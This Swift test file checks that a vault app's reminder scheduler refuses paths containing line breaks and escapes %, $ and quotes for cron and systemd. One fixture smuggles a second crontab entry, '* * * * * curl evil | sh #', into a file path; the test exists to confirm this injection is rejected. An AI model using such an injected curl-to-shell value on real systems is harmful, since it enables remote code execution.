import Foundation
import Testing
import VaultCore
import VaultStore

/// Issue 34: a vault path reaches cron and systemd only in their own syntax.
@Suite("Reminder units and crontab line")
struct ReminderUnitsTests {
    @Test("a vault path with a line break gives no second crontab entry nor raw unit lines: it is refused, named")
    func lineBreakRefused() {
        let units = ReminderUnits(vault: URL(fileURLWithPath: "/home/me/notes\n* * * * * curl evil | sh #"), binary: "/usr/bin/vault")
        #expect(throws: VaultStoreError.self) { try units.crontabLine }
        #expect(throws: VaultStoreError.self) { try units.service }
        do {
            _ = try units.crontabLine
        } catch {
            #expect(error.localizedDescription.contains("\"/home/me/notes\\n* * * * * curl evil | sh #\""))
            #expect(error.localizedDescription.contains("line break"))
        }
        let binary = ReminderUnits(vault: URL(fileURLWithPath: "/home/me/notes"), binary: "/opt/vault\r/bin/vault")
        #expect(throws: VaultStoreError.self) { try binary.service }
    }

    @Test("% is escaped for cron (it would cut the command) and doubled for systemd, $ doubled, quotes kept in")
    func percentAndDollar() throws {
        let units = ReminderUnits(vault: URL(fileURLWithPath: "/home/me/100% \"mine\" $HOME's"), binary: "/usr/bin/vault")
        let line = try units.crontabLine
        #expect(line.hasSuffix(" --vault '/home/me/100\\% \"mine\" $HOME'\\''s' remind >/dev/null 2>&1"))
        #expect(!line.contains("\n"))
        let service = try units.service
        #expect(service.contains("ExecStart=\"/usr/bin/vault\" --vault \"/home/me/100%% \\\"mine\\\" $$HOME's\" remind\n"))
        #expect(service.contains("Description=vault reminders for /home/me/100%% \"mine\" $HOME's\n"))
    }
}
